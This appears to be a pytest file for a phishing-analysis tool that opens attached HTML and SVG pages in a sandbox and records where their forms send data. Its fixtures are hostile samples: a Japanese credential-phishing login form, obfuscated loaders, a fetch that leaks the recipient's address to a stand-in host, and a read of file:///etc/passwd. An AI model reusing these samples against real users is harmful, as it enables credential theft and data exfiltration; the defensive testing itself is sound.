"""A page that came as a file: opened with no network first, then with it; what it would send is found and nothing of it leaves."""

import base64
from typing import Any

import msgspec
import pytest

from fuwake.model.attached import AttachedPage
from fuwake.model.visit import AttachedVisit, VisitRecord
from fuwake.observe.browser.attached import TELLS_WHO, AttachedObserver
from fuwake.parse.message import parse
from fuwake.parse.redaction import Redactor
from tests.observe.browser.stage import Stage, page

pytestmark = [pytest.mark.needs_browser, pytest.mark.needs_bubblewrap, pytest.mark.timeout(120)]

RECIPIENT = "hanako.suzuki@ryokan-mizuho.jp"
REDACTOR = Redactor.of(parse(f"From: A <a@aq.test>\r\nTo: <{RECIPIENT}>\r\nSubject: x\r\n\r\nx\r\n".encode()))
LOGIN = (
    "<!DOCTYPE html><html lang=ja><meta charset=utf-8><title>共有ファイル</title><h1>サインイン</h1>"
    "<form method=post action='http://takes.test/in.php'><label>メールアドレス<input name=mail></label>"
    "<label>パスワード<input type=password name=pw></label><a href='#'>日本語</a><button>次へ</button></form>"
)


def opened(stage: Stage, text: str, *, decoyed: bool = True, **changes: Any) -> tuple[VisitRecord, AttachedVisit, tuple[bytes, ...]]:
    """The record of one attached page, its recipient replaced before as the pipeline does."""
    attached = AttachedPage(
        path="2", sha256="ab" * 32, media=changes.pop("media", "text/html"), text=REDACTOR.decoyed(text) if decoyed else text
    )
    settings = msgspec.structs.replace(stage.settings, **changes)
    raw = stage.run(AttachedObserver(settings, attached, REDACTOR, stage.session).ask(attached.question))
    assert b"file:///mnt" not in raw.body, "where the browser believed to open it is told to nobody"
    record = msgspec.json.decode(raw.body, type=VisitRecord)
    assert record.attached is not None
    return record, record.attached, raw.attachments


def targets(record: VisitRecord) -> list[tuple[str, int]]:
    """(URL, number of fields) of what carried typed data."""
    return [(held.url.partition("?")[0], len(held.carries)) for held in record.held if held.carries]


def test_an_attached_form_is_tried_and_its_target_found(stage: Stage) -> None:
    start = len(stage.raw)
    record, attached, _ = opened(stage, LOGIN)
    assert (record.outcome, record.url, record.final_url, record.http_status) == ("seen", f"part:2 {'ab' * 32}", None, None)
    assert record.title == "共有ファイル"
    assert targets(record) == [("http://takes.test/in.php", 2)]
    assert [control.label for control in record.controls if control.tried] == ["日本語"]
    assert [field.type for field in attached.alone.inputs] == ["text", "password"]
    assert attached.online is not None
    assert not record.decoy_left
    assert bytes(stage.raw[start:]) == b"", "the page needs nobody, and what was typed stays here"


def test_a_page_put_together_by_a_script_is_opened_as_from_a_disk(stage: Stage) -> None:
    inner = base64.b64encode(LOGIN.encode()).decode()
    script = f"document.write(decodeURIComponent(escape(atob('{inner}')))); localStorage.a = location.protocol + document.referrer;"
    record, _, _ = opened(stage, f"<html><body><script>{script} document.title = localStorage.a + location.hash</script></body></html>")
    assert record.title == "file:"
    assert targets(record) == [("http://takes.test/in.php", 2)]


def test_nothing_leaves_before_it_is_opened_with_the_network(stage: Stage) -> None:
    stage.sites["assets.test"] = lambda _: page("document.body.innerHTML += '<form><input type=password name=p></form>'")
    start = len(stage.asked)
    record, attached, _ = opened(stage, "<body><p>読み込み中</p><script src=http://assets.test/kit.js></script>")
    assert attached.wanted == ("http://assets.test/kit.js",)
    assert attached.alone.inputs == ()
    assert attached.online is not None
    assert [field.type for field in record.inputs] == ["password"]
    assert [asked.target for asked in stage.asked[start:]] == ["/kit.js"], "once, with the network"


def test_the_recipient_in_the_file_is_replaced_before_it_is_opened(stage: Stage) -> None:
    stage.sites["logo.test"] = lambda _: page("")
    coded = base64.b64encode(RECIPIENT.encode()).decode()
    start = len(stage.raw)
    text = "<body><input id=m name=m><input type=password name=p><img id=i>"
    text += f"<script>m.value = atob('{coded}'); i.src = 'http://logo.test/?of=' + m.value</script>"
    record, attached, _ = opened(stage, text)
    sent = bytes(stage.raw[start:]).decode("latin-1")
    assert attached.online is not None
    assert "logo.test" in sent
    assert "hanako" not in sent
    assert record.inputs[0].prefilled


def test_a_page_that_still_knows_the_recipient_is_not_let_out(stage: Stage) -> None:
    hidden = ",".join(str(ord(sign) ^ 7) for sign in RECIPIENT)
    start = len(stage.raw)
    text = (
        "<body><input id=m name=m><input type=password name=p>"
        f"<script>m.value = [{hidden}].map((n) => String.fromCharCode(n ^ 7)).join('');"
        "fetch('http://logo.test/?of=' + m.value, {mode: 'no-cors'})</script>"
    )
    record, attached, _ = opened(stage, text)
    assert (attached.online, attached.why) == (None, TELLS_WHO)
    assert bytes(stage.raw[start:]) == b""
    assert record.masks, "the picture shows it, and where is told"
    assert [field.type for field in record.inputs] == ["text", "password"]


def test_no_other_file_is_reached(stage: Stage) -> None:
    text = (
        "<body><iframe src='file:///etc/passwd'></iframe><img src='other.png'><script>fetch('file:///etc/passwd').then((one) => one.text())"
        ".then((text) => document.title = text, () => document.title = 'refused')</script>"
    )
    record, _, _ = opened(stage, text)
    assert record.title == "refused"
    assert "root" not in (record.text or "")


def test_a_file_that_only_leads_on_is_followed_with_the_network(stage: Stage) -> None:
    stage.sites["on.test"] = lambda _: page(LOGIN)
    record, attached, _ = opened(stage, "<meta http-equiv=refresh content='0;url=http://on.test/in'>")
    assert record.final_url == "http://on.test/in"
    assert [(step.url.partition(" ")[0], step.how) for step in record.redirects] == [("part:2", "start"), ("http://on.test/in", "meta")]
    assert attached.wanted == ("http://on.test/in",)
    assert targets(record) == [("http://takes.test/in.php", 2)]


def test_a_form_inside_a_drawing_gives_its_target(stage: Stage) -> None:
    form = (
        "<form method='post' action='http://takes.test/svg.php'><label>メールアドレス<input name='mail' value='x'/></label>"
        "<label>国<select name='land'><option>a</option><option>b</option></select></label>"
        "<label>パスワード<input type='password' name='pw'/></label>"
        "<input type='checkbox' name='ok' required='required'/><button>次へ</button></form>"
    )
    inner = f"<foreignObject width='500' height='300'><div xmlns='http://www.w3.org/1999/xhtml'>{form}</div></foreignObject>"
    text = f"<svg xmlns='http://www.w3.org/2000/svg' width='600' height='400'>{inner}</svg>"
    record, _, _ = opened(stage, text, media="image/svg+xml")
    assert targets(record) == [("http://takes.test/svg.php", 2)], record.detail
    xhtml = f"<html xmlns='http://www.w3.org/1999/xhtml'><head><title>x</title></head><body>{form}</body></html>"
    record, _, _ = opened(stage, xhtml, media="application/xhtml+xml")
    assert targets(record) == [("http://takes.test/svg.php", 2)], record.detail


def test_a_drawing_with_a_script_is_opened_too(stage: Stage) -> None:
    stage.sites["on.test"] = lambda _: page(LOGIN)
    where = base64.b64encode(b"http://on.test/in").decode()
    text = f"<svg xmlns='http://www.w3.org/2000/svg' width='40' height='30'><script>location.href = atob('{where}')</script></svg>"
    record, attached, _ = opened(stage, text, media="image/svg+xml")
    assert attached.wanted == ("http://on.test/in",)
    assert record.final_url == "http://on.test/in"
    assert targets(record) == [("http://takes.test/in.php", 2)]
